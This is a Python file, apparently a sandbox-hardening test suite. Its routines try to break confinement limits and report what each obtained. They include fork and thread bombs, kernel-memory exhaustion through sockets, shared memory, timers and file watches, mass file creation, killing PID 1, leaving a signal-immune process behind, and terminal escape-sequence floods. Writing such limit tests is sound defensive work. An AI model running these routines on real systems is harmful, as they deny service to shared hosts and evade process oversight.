    """What one writes to /dev/shm or /tmp must be its own."""
    return [
        path
        for path in os.listdir("/dev/shm") + os.listdir("/tmp")
        if path.startswith(("airhockey-attack", "sem.", "psm_"))
    ]


@attempt
def make_kernel_interfaces_that_are_new() -> object:
    """Those that came lately, and have no use for an agent: landlock takes rights away only, and may be."""
    seen = []
    for name, number in {
        "statmount": 457,
        "listmount": 458,
        "open_tree_attr": 467,
        "quotactl_fd": 443,
        "set_mempolicy_home_node": 450,
    }.items():
        NUMBERS[name] = number
        seen.append(was_allowed(name, 0, 0, 0, 0))
    return [one for one in seen if one]


# ---- resources; each gets as much as it can and says how much that was


@attempt
def make_files_without_end() -> object:
    """Empty ones cost no space where files lie, but the kernel's memory."""
    made = 0
    for place in (tempfile.gettempdir(), "/dev/shm"):
        folder = os.open(place, os.O_RDONLY)
        try:
            while made < 400_000:
                os.close(os.open(f"f{made}", os.O_CREAT | os.O_WRONLY, dir_fd=folder))
                made += 1
        except OSError:
            continue
    return f"{made} files" if made >= 400_000 else None


@attempt
def take_memory_by_sockets() -> object:
    reader, writer = os.pipe()
    for _ in range(TOLD["processes"]):
        try:
            if os.fork():
                continue
        except OSError:
            break
        got, chunk = 0, bytes(65536)
        try:
            while True:
                pair = socket.socketpair()
                _kept.append(pair)
                pair[0].setblocking(False)
                try:
                    while True:
                        got += pair[0].send(chunk)
                except BlockingIOError:
                    continue
        except OSError:
            os.write(writer, struct.pack("q", got))
            time.sleep(20)
            os._exit(0)
    return _too_much(_told_by(reader, 5.0), int(1.5 * TOLD["memory"]))


@attempt
def take_memory_by_tcp() -> object:
    """What waits in connections to itself is the kernel's memory, and all of the machine shares one measure of it."""
    reader, writer = os.pipe()
    for _ in range(TOLD["processes"]):
        try:
            if os.fork():
                continue
        except OSError:
            break
        got, chunk = 0, bytes(65536)
        try:
            with socket.create_server(("127.0.0.1", 0), backlog=64) as server:
                while True:
                    pair = (socket.create_connection(server.getsockname(), 0.5), server.accept()[0])
                    _kept.append(pair)
                    for one in pair:
                        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * MIB)
                        one.setblocking(False)
                        try:
                            while True:
                                got += one.send(chunk)
                        except BlockingIOError:
                            continue
        except OSError:
            pass
        os.write(writer, struct.pack("q", got))
        time.sleep(20)
        os._exit(0)
    return _too_much(_told_by(reader, 8.0), int(1.5 * TOLD["memory"]))


@attempt
def take_memory_by_extended_attributes() -> object:
    """Attributes of files in memory cost no space where the files lie."""
    got = 0
    for number in range(20_000):
        path = Path(tempfile.gettempdir(), f"x{number}")
        try:
            path.touch()
            for k in range(16):
                os.setxattr(path, f"user.{k}", bytes(60_000))
                got += 60_000
        except OSError:
            break
    return _too_much(got, TOLD["memory"])


@attempt
def make_links_and_folders_without_end() -> object:
    made = 0
    try:
        while made < 400_000:
            os.symlink("x" * 4000, f"{tempfile.gettempdir()}/l{made}")
            os.mkdir(f"/dev/shm/d{made}")
            made += 2
    except OSError:
        pass
    return f"{made} links and folders" if made >= 400_000 else None


@attempt
def take_memory_by_timers_and_signals() -> object:
    """Each waits in the kernel."""
    made, timer = 0, ctypes.c_int()
    number = 222 if IS_X86 else 107
    while made < 2_000_000 and libc.syscall(ctypes.c_long(number), 1, None, ctypes.byref(timer)) == 0:
        made += 1
    return f"{made} timers" if made >= 2_000_000 else None


@attempt
def take_memory_by_watches_on_files() -> object:
    made = 0
    for _ in range(1000):
        fd = libc.inotify_init()
        if fd < 0:
            break
        for path in (*Path("/usr/lib").iterdir(), *Path("/usr/bin").iterdir()):
            if libc.inotify_add_watch(fd, os.fsencode(path), 2) < 0:
                break
            made += 1
    return _too_much(made * 1024, TOLD["memory"])


@attempt
def crash() -> object:
    os.abort()


@attempt
def end_the_first_process() -> object:
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGSTOP)
    return None


def _fill(once: Callable[[int], int], most: int) -> int:
    got = 0
    for number in range(1000):
        try:
            got += once(number)
        except (OSError, MemoryError):
            break
        if got > most:
            break
    return got


def _too_much(got: int, allowed: int) -> str | None:
    return f"{got >> 20} MiB of {allowed >> 20}" if got > allowed else None


_kept: list[object] = []


def _told_by(reader: int, seconds: float) -> int:
    """The sum of what children write into a pipe within so long."""
    os.set_blocking(reader, False)
    total, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            total += struct.unpack("q", os.read(reader, 8))[0]
        except BlockingIOError:
            time.sleep(0.05)
    return total


@attempt
def take_memory_by_memfd() -> object:
    def once(number: int) -> int:
        fd = os.memfd_create(f"m{number}")
        chunk = bytes(MIB)
        for _ in range(16):
            os.write(fd, chunk)
        return 16 * MIB

    return _too_much(_fill(once, 2 * TOLD["memory"]), int(1.5 * TOLD["memory"]))


@attempt
def take_memory_by_shared_maps() -> object:
    def once(_: int) -> int:
        block = mmap.mmap(-1, 16 * MIB)
        block.write(b"x" * (16 * MIB))
        _kept.append(block)
        return 16 * MIB

    return _too_much(_fill(once, 2 * TOLD["memory"]), int(1.5 * TOLD["memory"]))


@attempt
def take_memory_by_system_v() -> object:
    libc.shmat.restype = ctypes.c_void_p

    def once(number: int) -> int:
        there = libc.shmget(0x5000 + number, 16 * MIB, 0o1600)
        if there < 0:
            raise OSError("refused")
        address = libc.shmat(there, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError("refused")
        ctypes.memset(address, 1, 16 * MIB)
        libc.shmdt(ctypes.c_void_p(address))
        return 16 * MIB

    return _too_much(_fill(once, 2 * TOLD["memory"]), int(1.5 * TOLD["memory"]))


@attempt
def take_memory_by_children() -> object:
    """Each child takes as much as a process may; together it is too much."""
    reader, writer = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            got = _fill(lambda number: (_kept.append(bytearray(b"x" * (16 * MIB))), 16 * MIB)[1], TOLD["memory"])
            os.write(writer, struct.pack("q", got))
            time.sleep(30)
            os._exit(0)
    os.close(writer)
    total = 0
    end = time.monotonic() + 15.0
    os.set_blocking(reader, False)
    while time.monotonic() < end:
        try:
            said = os.read(reader, 8)
        except BlockingIOError:
            time.sleep(0.05)
            continue
        if not said:
            break
        total += struct.unpack("q", said)[0]
    return _too_much(total, int(2.0 * TOLD["memory"]))


@attempt
def take_memory_by_temporary_files() -> object:
    def once(number: int) -> int:
        for place in (tempfile.gettempdir(), "/dev/shm"):
            with open(f"{place}/{number}", "wb") as file:
                file.write(bytes(MIB))
        return 2 * MIB

    return _too_much(_fill(once, 4 * TOLD["scratch"]), 2 * TOLD["scratch"] + 4 * MIB)


@attempt
def fork_without_end() -> object:
    born = 0
    while born < 4 * TOLD["processes"]:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
        born += 1
    return f"{born} processes" if born > TOLD["processes"] else None


@attempt
def start_threads_without_end() -> object:
    import threading

    born = 0
    while born < 4 * TOLD["processes"]:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break
        born += 1
    return f"{born} threads" if born > TOLD["processes"] else None


@attempt
def leave_a_process_behind() -> object:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
            time.sleep(600)
        os._exit(0)
    os.wait()
    return None


@attempt
def print_without_end() -> object:
    for _ in range(200):
        sys.stdout.write("x" * MIB)
        sys.stderr.write("\x1b[2J\x1b]0;owned\x07[red]‮" * 100)
    return None


def try_all(names: list[str]) -> None:
    """Do what is asked for, and print what each got."""
    for name in names:
        try:
            seen = ATTEMPTS[name]()
        except BaseException:
            seen = None
        got = repr(seen)[:200] if seen else "nothing"
        print(f"@@{name}@@{got}", flush=True)
